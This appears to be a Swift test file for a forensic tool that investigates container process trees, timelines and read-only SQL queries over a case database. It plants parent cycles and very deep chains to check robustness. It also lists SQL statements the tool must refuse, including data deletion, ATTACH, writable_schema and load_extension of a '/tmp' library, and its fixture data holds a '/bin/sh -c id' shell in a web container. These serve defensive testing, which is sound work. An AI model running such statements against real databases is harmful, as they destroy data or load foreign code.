        let reused = try investigation.collect { try investigation.processes(Selection(pid: 700), into: &$0) }
        #expect(reused.column("started") == [.integer(Scenario.t(200)), .integer(Scenario.t(300))])
        let window = try investigation.collect { try investigation.processes(Selection { $0.since = Scenario.t(215); $0.until = Scenario.t(250) }, into: &$0) }
        #expect(!window.column("started").contains(.integer(Scenario.t(200))), "exited before the window")
        #expect(!window.column("started").contains(.integer(Scenario.t(300))), "started after the window")
        #expect(window.column("pid").contains(.integer(1)))
    }

    // MARK: - Trees

    @Test func treeShowsAncestryAboveAndDescendantsBelow() throws {
        let investigation = try Investigation(path: try Scenario.path())
        let tree = try investigation.collect { try investigation.tree(Selection(pid: 1000), into: &$0) }
        #expect(tree.columns == Investigation.treeColumns)
        let rows = tree.keyedRows
        #expect(rows.map { $0["pid"]?.integer } == [1, 900, 1000, 1001, 700])
        #expect(rows.map { $0["relation"]?.string } == ["ancestor", "ancestor", "root", "descendant", "descendant"])
        #expect(rows.map { $0["depth"]?.integer } == [0, 1, 2, 3, 3])
        let drawn = rows.compactMap { $0["tree"]?.string }
        #expect(drawn == [
            "1 /sbin/init (ancestor)",
            "└─ 900 containerd-shim -id x (ancestor)",
            "   └─ 1000 nginx -g 'daemon off;'",
            "      ├─ 1001 nginx",
            "      └─ 700 /bin/sh -c id",
        ], "\(drawn)")

        let reused = try investigation.collect { try investigation.tree(Selection(pid: 700), into: &$0) }
        #expect(reused.keyedRows.map { "\($0["pid"]?.integer ?? -1):\($0["relation"]?.string ?? "?")" } == [
            "1:ancestor", "500:ancestor", "600:ancestor", "700:root",
            "1:ancestor", "900:ancestor", "1000:ancestor", "700:root",
        ], "each instance of PID 700 under its own ancestry")

        let container = try investigation.collect { try investigation.tree(Selection(containers: ["web"]), into: &$0) }
        #expect(container.keyedRows.map { $0["pid"]?.integer } == [1000, 1001, 700], "entry point first, no ancestors outside it")
        #expect(container.keyedRows.first?["relation"]?.string == "root")

        let limited = try investigation.collect { try investigation.tree(Selection(pid: 1000, limit: 2), into: &$0) }
        #expect(limited.rows.count == 2)
        #expect(throws: StoreError.self) {
            _ = try investigation.collect { try investigation.tree(Selection(), into: &$0) }
        }
    }

    /// A parent cycle planted in `processes` is cut: trees, descendants and ps end.
    @Test(.timeLimit(.minutes(1))) func aPlantedParentCycleDoesNotHang() throws {
        let path = try Scenario.copy()
        let p1 = try Scenario.processRow(Scenario.p1, in: path)
        let p1001 = try Scenario.processRow(Scenario.p1001, in: path)
        let p700b = try Scenario.processRow(Scenario.p700b, in: path)
        let attacker = try DatabaseQueue(path: path)
        try attacker.write { db in
            try db.execute(sql: "UPDATE processes SET parent_id = ? WHERE id = ?", arguments: [p1001, p1]) // 1 → 900 → 1000 → 1001 → 1
            try db.execute(sql: "UPDATE processes SET parent_id = id WHERE id = ?", arguments: [p700b]) // its own parent
        }
        try attacker.close()
        let investigation = try Investigation(path: path)
        let tree = try investigation.collect { try investigation.tree(Selection(pid: 1000), into: &$0) }
        let pids = tree.column("pid").compactMap(\.integer)
        #expect(pids.filter { $0 == 1000 }.count == 1, "\(pids)")
        #expect(pids.count < 20, "\(pids)")
        let fromOne = try investigation.collect { try investigation.tree(Selection(pid: 1), into: &$0) }
        #expect(Set(fromOne.column("pid").compactMap(\.integer)).isSuperset(of: [1, 500, 600, 900, 1000, 1001]))
        #expect(fromOne.rows.count < 30)
        let container = try investigation.collect { try investigation.tree(Selection(containers: ["web"]), into: &$0) }
        #expect(container.rows.count < 30, "the planted link makes the host tree a child of nginx; it is drawn once")
        let descendants = try investigation.timelineRows(Selection { $0.pid = 1; $0.descendants = true })
        #expect(descendants.filter { $0["event_id"] != .null }.count == Set(descendants.compactMap { $0["event_id"]?.integer }).count,
                "every event once")
        let ps = try investigation.collect { try investigation.processes(Selection { $0.pid = 900; $0.descendants = true }, into: &$0) }
        #expect(ps.column("pid").compactMap(\.integer).sorted() == [1, 500, 600, 700, 900, 1000, 1001, 2000, 2001],
                "through the cycle, each once (700b, its own parent, is no one's child now): \(ps.column("pid"))")
    }

    /// `casefile tree` on a very long parent chain (planted, or a fork bomb) ends without
    /// exhausting the stack of the thread that reads (run as the binary: a crash is a status).
    @Test func aVeryDeepTreeIsCutNotACrash() throws {
        let path = try Scenario.copy()
        let attacker = try DatabaseQueue(path: path)
        try attacker.write { db in
            var parent = try #require(try Int64.fetchOne(db, sql: "SELECT id FROM processes WHERE pid = 1001"))
            for i in 0..<3000 {
                try db.execute(sql: """
                    INSERT INTO processes (boot_id, pid, start_ticks, start_boot_ns, started_at, ppid, parent_id, comm, session_id)
                    VALUES ('deep', ?, ?, 0, ?, 0, ?, 'sh', 1)
                    """, arguments: [100_000 + i, i, Scenario.t(500) + Int64(i), parent])
                parent = db.lastInsertedRowID
            }
        }
        try attacker.close()
        let top = try CasefileCommand.run(["tree", "--db", path, "--pid", "1001", "--format", "jsonl"])
        #expect(top.status == 0, "status \(top.status): \(top.stderr.suffix(500))")
        #expect(top.stdout.split(separator: "\n").count >= 990, "about the first 1000 levels are shown")
        let bottom = try CasefileCommand.run(["tree", "--db", path, "--pid", "102999", "--format", "jsonl"])
        #expect(bottom.status == 0, "status \(bottom.status): \(bottom.stderr.suffix(500))")
    }

    // MARK: - SQL

    @Test(arguments: [
        "INSERT INTO event_kinds (id, name, description) VALUES (999, 'x', 'y')",
        "UPDATE sessions SET host = 'x'",
        "DELETE FROM events",
        "CREATE TEMP TABLE t (x)",
        "CREATE TEMP VIEW v AS SELECT 1",
        "ATTACH DATABASE '/tmp/casefile-attach-test.db' AS other",
        "PRAGMA writable_schema = 1",
        "PRAGMA user_version = 99",
        "PRAGMA query_only = 0",
        "SELECT 1; SELECT 2",
        "SELECT 1; DELETE FROM events",
        "BEGIN",
        "VACUUM INTO '/tmp/casefile-vacuum-into-test.db'",
        "DROP VIEW event_lines",
        "WITH x AS (SELECT 1) DELETE FROM events WHERE id IN (SELECT * FROM x)",
        "SELECT load_extension('/tmp/x.so')",
        "REPLACE INTO comms (id, comm) VALUES (1, 'x')",
    ])
    func sqlThatWouldChangeSomethingIsRefused(_ sql: String) throws {
        let path = try Scenario.path()
        let before = try Data(contentsOf: URL(fileURLWithPath: path))
        let investigation = try Investigation(path: path)
        #expect(throws: StoreError.self, "\(sql)") {
            var sink = CollectedListing()
            try investigation.run(sql: sql, into: &sink)
        }
        #expect(!FileManager.default.fileExists(atPath: "/tmp/casefile-vacuum-into-test.db"))
        #expect(!FileManager.default.fileExists(atPath: "/tmp/casefile-attach-test.db"))
        // still a working connection afterwards
        var ok = CollectedListing()
        try investigation.run(sql: "SELECT count(*) AS n FROM events", into: &ok)
        #expect(ok.rows == [[.integer(23)]])
        #expect(try Data(contentsOf: URL(fileURLWithPath: path)) == before)
    }

    @Test func sqlReadsAndTheFileIsUnchanged() throws {
        let path = try Scenario.copy()
        let directory = URL(fileURLWithPath: path).deletingLastPathComponent().path
        let before = try Data(contentsOf: URL(fileURLWithPath: path))
        let investigation = try Investigation(path: path)
        func run(_ sql: String, _ parameters: [String: String] = [:], timeColumns: Bool = false) throws -> CollectedListing {
            var sink = CollectedListing()
            try investigation.run(sql: sql, parameters: parameters, timeColumns: timeColumns, into: &sink)
            return sink
        }
        let kinds = try run("SELECT kind, count(*) AS n FROM timeline GROUP BY kind ORDER BY kind")
        #expect(kinds.columns.map(\.name) == ["kind", "n"])
        #expect(kinds.keyedRows.first { $0["kind"]?.string == "exec" }?["n"] == .integer(5))
        let with = try run("WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n WHERE x < 5) SELECT sum(x) FROM n")
        #expect(with.rows == [[.integer(15)]])
        let info = try run("PRAGMA table_info(events)")
        #expect(info.column("name").contains(.text("ts")))
        #expect(try run("pragma user_version").rows == [[.integer(Int64(CaseFile.schemaVersion))]])
        #expect(try run("SELECT name FROM pragma_table_info('containers') WHERE name = 'image'").rows == [[.text("image")]])
        #expect(try run("SELECT count(*) FROM json_each('[1,2,3]')").rows == [[.integer(3)]])
        let named = try run("SELECT name FROM containers WHERE name = :n OR id = :id", ["n": "web", "id": Scenario.idB])
        #expect(Set(named.column("name")) == [.text("web"), .text("db")])
        let integer = try run("SELECT pid FROM processes WHERE pid = :pid", ["pid": "700"])
        #expect(integer.rows == [[.integer(700)], [.integer(700)]], "an integer parameter binds as INTEGER")
        let unbound = try run("SELECT :missing IS NULL")
        #expect(unbound.rows == [[.integer(1)]], "a parameter not given is NULL")
        let times = try run("SELECT e.ts, s.started_at AS x, s.ended_at AS removed_at FROM events e, sessions s LIMIT 1", timeColumns: true)
        #expect(times.columns.map(\.meaning) == [.time, .plain, .time])
        let limited = try { var sink = CollectedListing(); try investigation.run(sql: "SELECT id FROM events", limit: 4, into: &sink); return sink }()
        #expect(limited.rows.count == 4)
        #expect(throws: StoreError.self) { try run("SELECT * FROM events WHERE id = ?") }
        #expect(throws: StoreError.self) { try run("SELECT 1", ["nope": "1"]) }
        #expect(throws: StoreError.self) { try run("SELECT * FROM no_such_table") }
        #expect(throws: StoreError.self) { try run("") }
        #expect(throws: StoreError.self) { try run("SELEC 1") }

        // the rest of the investigation reads too, and nothing of it writes
        _ = try investigation.summary()
        _ = try investigation.timelineRows(Selection { $0.pid = 1; $0.descendants = true })
        _ = try investigation.collect { try investigation.tree(Selection(containers: ["web"]), into: &$0) }
        _ = try CaseFile.schemaDifferences(path: path)
        _ = try CaseFileVerifier.verify(path: path)
        #expect(try Data(contentsOf: URL(fileURLWithPath: path)) == before, "byte for byte")
        #expect(try FileManager.default.contentsOfDirectory(atPath: directory) == ["case.db"], "no -journal, -wal or -shm made")
    }

    /// SQLite takes `:n`, `@n` and `$n` for named parameters; `--param n=…` must bind each of
    /// them (not leave it NULL, which silently matches nothing).
    @Test(arguments: [":n", "@n", "$n"])
    func everyNamedParameterFormBinds(_ parameter: String) throws {
        let investigation = try Investigation(path: try Scenario.path())
        var sink = CollectedListing()
        try investigation.run(sql: "SELECT name FROM containers WHERE name = \(parameter)", parameters: ["n": "web"], into: &sink)
        #expect(sink.rows == [[.text("web")]], "\(parameter)")
    }

    /// `casefile sql ""` (or only a comment) says what is wrong, not SQLite's "not an error".
    @Test(arguments: ["", "   ", "-- only a comment", ";"])
    func anEmptyStatementIsAClearError(_ sql: String) throws {
        let investigation = try Investigation(path: try Scenario.path())
        #expect {
            var sink = CollectedListing()
            try investigation.run(sql: sql, into: &sink)
        } throws: { error in
            error is StoreError && !"\(error)".contains("not an error")
        }
    }

    @Test(.timeLimit(.minutes(1))) func aRunawayQueryIsStoppedWithAClearError() throws {
        let investigation = try Investigation(path: try Scenario.path())
        let started = Date()
        #expect {
            var sink = CollectedListing()
            try investigation.run(sql: "WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r) SELECT count(*) FROM r",
                                  timeout: 0.5, into: &sink)
        } throws: { error in
            guard case StoreError.badQuery(let message) = error else { return false }
            return message.contains("ran longer than 0.5 s") && message.contains("--timeout")
        }
        let elapsed = Date().timeIntervalSince(started)
        #expect(elapsed >= 0.4 && elapsed < 5, "\(elapsed) s")
        // the connection still answers, and a query within its time is not stopped
        var sink = CollectedListing()
        try investigation.run(sql: "SELECT count(*) FROM events", timeout: 0.5, into: &sink)
        #expect(sink.rows == [[.integer(23)]])
        Thread.sleep(forTimeInterval: 0.6)
        var later = CollectedListing()
        try investigation.run(sql: "SELECT count(*) FROM events", into: &later)
        #expect(later.rows == [[.integer(23)]], "a cancelled timer does not interrupt a later query")
    }

    // MARK: - Named queries

    @Test func namedQueryHeaderIsParsed() throws {
        let text = """
            -- name: shells-in-containers
            -- description: Shells started inside containers.
            -- param: container = : only this container (an id prefix or a name)
            -- param: seconds = 60 : at most this long
            -- param: bare
            -- Read it with the timeline.
            SELECT :container, :seconds, :bare
            -- not a header line
            """
        let query = try NamedQuery.parse(text, file: "shells-in-containers.sql")
        #expect(query.name == "shells-in-containers")
        #expect(query.description == "Shells started inside containers.")
        #expect(query.parameters.map(\.key) == ["container", "seconds", "bare"])
        #expect(query.parameters.map(\.defaultValue) == [nil, "60", nil])
        #expect(query.parameters.map(\.meaning) == ["only this container (an id prefix or a name)", "at most this long", ""])
        #expect(query.notes == ["Read it with the timeline."])
        #expect(query.sql == text)

        let investigation = try Investigation(path: try Scenario.path())
        var sink = CollectedListing()
        try investigation.run(query, parameters: ["container": "web"], into: &sink)
        #expect(sink.rows == [[.text("web"), .integer(60), .null]], "given, default, NULL")
        #expect(throws: StoreError.self) {
            var sink = CollectedListing()
            try investigation.run(query, parameters: ["nope": "1"], into: &sink)
        }

        for bad in ["SELECT 1", "-- description: only a description\nSELECT 1", "-- name: only-a-name\nSELECT 1",
                    "-- name:\n-- description: empty name\nSELECT 1", "\n-- name: x\n-- description: y\nSELECT 1",
                    "-- name: x\n-- description: y\n-- param: = 1 : no key\nSELECT 1"] {
            #expect(throws: StoreError.self, "\(bad)") { _ = try NamedQuery.parse(bad, file: "bad.sql") }
        }
    }

    /// Every embedded query with a header parses (none silently left out of `NamedQuery.all`),
    /// and every query runs on a case file of the current schema, with its defaults.
    @Test func everyEmbeddedQueryParsesAndRuns() throws {
        for file in EmbeddedQueries.files where file.text.split(separator: "\n").contains(where: { $0.hasPrefix("-- name:") }) {
            let query = try NamedQuery.parse(file.text, file: file.name)
            #expect(NamedQuery.named(query.name) != nil, "\(file.name)")
        }
        let investigation = try Investigation(path: try Scenario.path())
        for query in NamedQuery.all {
            var sink = CollectedListing()
            do {
                try investigation.run(query, parameters: [:], timeout: 10, into: &sink)
                #expect(!sink.columns.isEmpty, "\(query.name)")
            } catch {
                Issue.record("\(query.name): \(error)")
            }
        }
    }

    // MARK: - Summary

    @Test func summaryCountsWhatTheFileHolds() throws {
        let summary = try Investigation(path: try Scenario.path()).summary()
        #expect(summary.sessions.count == 1)
        #expect(summary.sessions.first?.events == 23 && summary.sessions.first?.lost == 7 && summary.sessions.first?.cleanShutdown == true)
        #expect(summary.containers == 3 && summary.enrichedContainers == 2 && summary.pods == 2)
        #expect(summary.processes == 10 && summary.cgroups == 4)
        #expect(summary.firstEvent == Scenario.t(60) && summary.lastEvent == Scenario.t(900))
        #expect(summary.kinds.first { $0.kind == "exec" }?.count == 5)
        #expect(summary.gaps.map(\.count) == [7])
        #expect(try CaseFileVerifier.verify(path: try Scenario.path()).outcome == .verified, "the scenario is a sealed recording")
    }
}
